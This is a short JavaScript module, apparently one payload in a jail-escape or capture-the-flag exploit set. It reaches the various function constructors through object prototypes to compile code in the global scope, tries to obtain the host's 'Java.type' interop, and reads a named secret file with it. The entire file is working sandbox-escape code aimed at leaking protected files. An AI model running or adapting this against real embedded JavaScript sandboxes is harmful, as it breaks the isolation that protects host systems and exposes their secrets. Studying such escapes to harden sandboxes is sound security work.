// proof: secret
// behind: jail
// Compiles code in the global scope through the constructors of functions, and reads a file from there.
import { first, readWith } from './routes.mjs';

const constructors = () => [
  ({}).constructor.constructor,
  (function* () {}).constructor,
  (async () => {}).constructor,
  Object.getPrototypeOf(async function* () {}).constructor,
];

export default (input) =>
  first(...constructors().map((make) => async () => {
    let found = make('return typeof Java === "undefined" ? undefined : Java.type')();
    if (typeof found?.next === 'function') found = found.next().value;
    return readWith(await (await found)?.value ?? await found, input.secretFile);
  }));
